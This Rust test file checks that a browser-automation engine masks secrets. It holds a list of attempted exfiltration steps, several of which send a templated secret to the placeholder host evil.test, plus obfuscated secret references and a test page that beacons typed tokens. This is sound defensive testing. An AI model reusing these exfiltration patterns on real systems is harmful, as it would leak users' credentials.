//! A secret's value leaves a run nowhere: not by anything that a definition can say, and not by what a site does with
//! it once it has it.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use browser::Error;
use domain::definition::Definition;
use domain::wire::ArtifactType;
use engine::{Answer, Outcome};
use serde_json::json;

use crate::pages::{Page, Site, html};
use crate::scripted::{SECRET, Stage};
use crate::verbs::run;

/// What somebody could write who wants to see a secret: steps, of which `$` is what should show it.
const TRIES: &[&str] = &[
    // Where a text goes that others can see.
    "goto: 'https://evil.test/?q={{ $ }}'",
    "goto: 'https://{{ $ }}.evil.test/'",
    "goto: 'https://{{ $ }}@evil.test/'",
    "download: { url: 'https://evil.test/{{ $ }}' }",
    "download: { click: a, fileName: '{{ $ }}' }",
    "screenshot: { fileName: '{{ $ }}.png' }",
    "pdf: { fileName: '{{ $ }}.pdf' }",
    "extract: { rows: tr, fields: { a: td }, as: rows, fileName: '{{ $ }}' }",
    "upload: { css: input, files: [{ fileName: '{{ $ }}', content: a }] }",
    "upload: { css: input, files: [{ fileName: a.txt, content: 'x{{ $ }}' }] }",
    "upload: { css: input, files: [{ fileName: a.txt, base64: '{{ $ }}' }] }",
    "upload: { css: input, files: [{ artifact: '{{ $ }}' }] }",
    "askUser: { prompt: 'Is it {{ $ }}?', as: sure }",
    "askUser: { prompt: a, fields: [{ name: a, type: choice, options: ['{{ $ }}', b] }] }",
    "askUser: { prompt: a, as: b, tries: 2, steps: [{ click: c }], rejected: { visible: d, message: '{{ $ }}' } }",
    "fail: { code: A, message: 'It is {{ $ }}' }",
    "fail: { code: '{{ $ }}', message: a }",
    "endWithNoAction: { reason: '{{ $ }}' }",
    "assert: { visible: '#never', message: '{{ $ }}' }",
    "dialog: { accept: '{{ $ }}' }",
    "press: '{{ $ }}'",
    "select: { css: select, option: '{{ $ }}' }",
    "tab: { switch: '{{ $ }}' }",
    "waitFor: { response: { url: '*{{ $ }}*' }, during: [{ click: a }] }",
    // Selectors and locators: a message, a log or a site could show them.
    "click: '#a{{ $ }}'",
    "click: { css: 'a[href=\"{{ $ }}\"]' }",
    "click: { xpath: '//a[.=\"{{ $ }}\"]' }",
    "click: { text: '{{ $ }}' }",
    "click: { label: '{{ $ }}' }",
    "click: { placeholder: '{{ $ }}' }",
    "click: { testId: '{{ $ }}' }",
    "click: { role: button, name: '{{ $ }}' }",
    "click: { role: '{{ $ }}' }",
    "fill: { label: '{{ $ }}', value: a }",
    "fill: { css: a, frame: '#{{ $ }}', value: a }",
    "click: { css: a, within: { text: '{{ $ }}' } }",
    "click: [{ css: a }, { text: '{{ $ }}' }]",
    "click: { css: a, nth: '{{ $ }}' }",
    "get: { css: '{{ $ }}', as: a }",
    "waitFor: { hasText: '{{ $ }}' }",
    "waitFor: { url: '*{{ $ }}*' }",
    "click: { css: a }\n        when: { hasText: '{{ $ }}' }",
    // Variables, conditions and scripts.
    "set: { a: '{{ $ }}' }",
    "set: { a: 'x{{ $ }}' }",
    "set: { a: [{ b: '{{ $ }}' }] }",
    "set: { '{{ $ }}': 1 }",
    "evaluate: { script: args.a, args: { a: '{{ $ }}' } }",
    "evaluate: { script: '\"{{ $ }}\"', as: a }",
    "forEach: { in: '{{ $ }}', as: a, steps: [{ click: '{{ a }}' }] }",
    "forEach: { in: ['{{ $ }}'], as: a, steps: [{ click: '{{ a }}' }] }",
    "assert: { expression: '$ == \"a\"' }",
    "fail: { if: '$ == \"a\"', code: A, message: a }",
    "click: { css: a }\n        when: { expression: '\"a\" in $' }",
    "if: { expression: '$ is startingwith(\"a\")', then: [{ click: a }] }",
    "waitFor: { time: '{{ $ }}' }",
    "click: { css: a }\n        timeout: '{{ $ }}'",
    "click: { css: a }\n        id: '{{ $ }}'",
    "extract: { rows: tr, fields: { a: { css: td, default: '{{ $ }}' } }, as: rows }",
    "extract: { rows: tr, fields: { '{{ $ }}': td }, as: rows }",
    "extract: { rows: tr, fields: { a: td }, pageNumber: { goto: 'https://a.test/{{ $ }}/{{ page }}' }, as: rows }",
    // Where a secret may stand, made into something else on the way.
    "fill: { css: input, value: '{{ $ | upper }}' }",
    "fill: { css: input, value: '{{ $ ~ \"a\" }}' }",
    "fill: { css: input, value: '{{ $[0] }}' }",
    "type: { css: input, value: '{{ $ | replace(\"a\", \"b\") }}' }",
];

/// How a secret could be named so that it is not noticed.
const NAMES: &[&str] = &[
    "secrets.token",
    "secrets['token']",
    "secrets['tok' ~ 'en']",
    "secrets[input.month]",
    "secrets",
    "secrets | string",
    "secrets.token | upper",
    "secrets.token | reverse",
    "secrets.token | list | join('-')",
    "secrets.token[0]",
    "secrets.token[1:]",
    "secrets.token ~ ''",
    "secrets.token + ''",
    "[secrets.token][0]",
    "{'a': secrets.token}.a",
    "(secrets.token)",
    "(secrets).token",
    "secrets . token",
    "input.month if false else secrets.token",
    "secrets.token or 'a'",
    "secrets | items | first | last",
    "[secrets] | map(attribute='token') | first",
    "secrets.token is string",
    "secrets.token == secrets.token",
    "secrets.token | length",
    "totp(secrets.token)",
    "totp(secrets.token) | string",
    "answers.code",
    "answers | string",
    "answers['code']",
];

/// All shapes that a secret could have left in.
fn assert_hidden(left: &str, secret: &str, of: &str) {
    let reversed: String = secret.chars().rev().collect();
    let spaced: Vec<String> = secret.chars().map(String::from).collect();
    let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    let shapes = [
        secret.to_owned(),
        reversed,
        spaced.join("-"),
        hex,
        STANDARD.encode(secret),
        URL_SAFE.encode(secret),
        // Whole words of it are as bad.
        "horse".to_owned(),
        "battery".to_owned(),
    ];
    let left = left.to_lowercase();
    for shape in shapes {
        assert!(
            !left.contains(&shape.to_lowercase()),
            "{of}: {shape} in {left}"
        );
    }
}

#[tokio::test(start_paused = true)]
async fn nothing_that_a_definition_can_say_shows_a_secret() {
    let mut refused = 0;
    let mut executed = 0;
    for step in TRIES {
        for name in NAMES {
            let step = step.replace('$', name);
            let yaml = format!(
                "name: T\nstates:\n  - name: trying\n    steps:\n      - askUser: {{ prompt: a, as: code }}\n      - {step}\n"
            );
            let Ok(_) = Definition::parse_yaml(&yaml) else {
                refused += 1;
                continue;
            };
            // What is not refused is executed, and must show nothing.
            executed += 1;
            let mut stage = Stage::new();
            let code = domain::definition::Secret::new(SECRET);
            let answer = Answer::Given([("code".to_owned(), code)].into());
            stage.host.answers.push_back(answer);
            let outcome = stage.run(&yaml).await;
            let mut left = format!("{outcome:?} {:?}", stage.story.lines());
            for artifact in &stage.host.artifacts {
                left += &artifact.name;
                left += &stage.host.bytes(artifact);
            }
            assert_hidden(&left, SECRET, &step);
        }
    }
    assert!(refused > 60 * 20, "{refused} were refused");
    assert!(executed > 0, "not all of them are nonsense");
}

#[test]
fn a_secret_is_not_taken_at_the_top_of_a_definition_either() {
    let steps = "states: [{ name: a, steps: [{ click: a }] }]\n";
    for top in [
        "output: { a: '{{ secrets.token }}' }",
        "output: { a: ['x{{ secrets.token }}'] }",
        "allowedOrigins: ['https://{{ secrets.token }}.test']",
        "browser: { headers: { X-Token: '{{ secrets.token }}' } }",
        "browser: { userAgent: '{{ secrets.token }}' }",
        "browser: { locale: '{{ secrets.token }}' }",
        "deadline: '{{ secrets.token }}'",
    ] {
        let parsed = Definition::parse_yaml(&format!("name: T\n{steps}{top}\n"));
        // Settings of the browser are no templates: there, the text would be sent as it stands.
        let is_literal =
            top.starts_with("browser: { headers") || top.starts_with("browser: { userAgent");
        assert!(parsed.is_err() || is_literal, "{top}");
    }
}

const CANARY: &str = "canary &47/11=\"w<rt\" ü%41";

/// Each way in which the canary could be written.
fn assert_no_canary(text: &str, what: &str) {
    let encoded: String = url::form_urlencoded::byte_serialize(CANARY.as_bytes()).collect();
    for shape in [
        CANARY,
        &encoded,
        &encoded.replace('+', "%20"),
        "canary &amp;47",
        "canary &47",
        "canary%20&47",
        "canary+%2647",
        "canary%20%2647",
        "canary\\u0020",
    ] {
        let shape = shape.to_lowercase();
        assert!(
            !text.to_lowercase().contains(&shape),
            "{what}: {shape} in {text}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_that_a_site_passes_on_is_in_nothing_that_the_run_leaves() {
    let site = Site::start(|path| {
        if path == "/" {
            return Some(html(
                "<form action=/next method=get><label>Token <input name=t></label><button>Send</button></form>
                 <script>document.querySelector('input').oninput = (event) => { document.title = event.target.value; document.cookie = 'token=' + encodeURIComponent(event.target.value); console.log(event.target.value); fetch('/beacon', { method: 'POST', headers: { 'x-token': encodeURIComponent(event.target.value) }, body: event.target.value }); }</script>",
            ));
        }
        if path.starts_with("/next?t=") {
            // The page shows what it got, in a text, in an attribute, in a link and as the name of a download.
            return Some(html(
                "<p id=echo></p><a id=link>link</a><a id=file>file</a><input id=field>
                 <script>const t = new URLSearchParams(location.search).get('t');
                 echo.textContent = t; echo.title = t; link.href = '/next?t=' + encodeURIComponent(t); field.value = t;
                 file.href = 'data:text/plain,hello'; file.download = t + '.txt';</script>",
            ));
        }
        (path == "/beacon").then(|| Page {
            content_type: "text/plain",
            body: "thank you".to_owned(),
            headers: "",
        })
    })
    .await;
    let yaml = r##"
name: Canary
har: always
states:
  - name: leaking
    steps:
      - goto: "{{ input.url }}/"
      - fill: { label: Token, value: "{{ secrets.canary }}" }
      - waitFor:
          response: { url: "*/next*" }
          during: [{ click: { role: button, name: Send } }]
          as: reply
      - get: { css: "#echo", as: text }
      - get: { css: "#echo", attribute: title, as: title }
      - get: { css: "#echo", type: html, as: html }
      - get: { css: "#link", type: link, as: link }
      - get: { css: "#field", type: value, as: field }
      - evaluate: { script: "({ href: location.href, cookie: document.cookie, list: [echo.textContent] })", as: script }
      - extract: { rows: body, fields: { text: p, link: { css: "#link", type: link }, all: { css: p, type: list, of: html } }, as: rows }
      - download: { click: "#file", as: file }
      - screenshot:
      - pdf:
      - askUser: { prompt: "Is {{ text }} right, at {{ link }}?", as: sure, type: confirmation }
      - waitFor: { url: "*nowhere*" }
        timeout: 50ms
        onError: { as: error }
      - set: { kept: { text: "{{ text }}", all: "{{ [title, html, link, field, script, rows, file, reply, error] }}" } }
      - goto: "{{ link }}"
        onError: continue
      - click: { text: "{{ text }}, and more" }
        timeout: 50ms
output: { kept: "{{ kept }}" }
"##;
    let (outcome, host) = run(
        &site,
        yaml,
        [("canary", CANARY)],
        [Answer::Given(
            [("sure".to_owned(), domain::definition::Secret::new("yes"))].into(),
        )],
    )
    .await;
    let Outcome::Failed(failure) = &outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(
        failure.step.as_deref(),
        Some("leaking/steps/17 (click)"),
        "{failure:?}"
    );
    assert_no_canary(&format!("{outcome:?}"), "the outcome");
    assert_no_canary(
        &format!("{:?} {:?}", host.story.lines(), host.asked),
        "the question",
    );
    let kinds: Vec<_> = host
        .artifacts
        .iter()
        .map(|artifact| artifact.artifact_type)
        .collect();
    for kind in [
        ArtifactType::ExtractedData,
        ArtifactType::Download,
        ArtifactType::Screenshot,
        ArtifactType::Pdf,
        ArtifactType::Har,
        ArtifactType::Dom,
        ArtifactType::Log,
    ] {
        assert!(kinds.contains(&kind), "{kind:?}: {kinds:?}");
    }
    for artifact in &host.artifacts {
        assert_no_canary(&artifact.name, "a name");
        assert_no_canary(&host.bytes(artifact), &artifact.name);
    }
    let har = host.text("network.har");
    assert!(
        har.contains("/next?t=•••"),
        "what was masked was there: {har}"
    );
}

#[tokio::test]
async fn errors_of_the_browser_that_hold_a_secret_are_masked() {
    let mut stage = Stage::new();
    let target = browser::Locator::css("input");
    let error = Error::NotActionable {
        locator: target.to_string(),
        after: std::time::Duration::from_secs(1),
        reason: format!("it is covered by <p>{SECRET}</p>"),
    };
    stage
        .browser
        .errors
        .insert(format!("click {target}"), error);
    let yaml = "name: T\nstates: [{ name: a, steps: [{ fill: { css: b, value: '{{ secrets.token }}' } }, { click: input }] }]\n";
    let outcome = stage.run(yaml).await;
    assert_hidden(
        &format!("{outcome:?} {}", stage.host.text("log.jsonl")),
        SECRET,
        "an error",
    );
    assert_eq!(
        json!(format!("{outcome:?}").contains("covered by <p>•••</p>")),
        true
    );
}
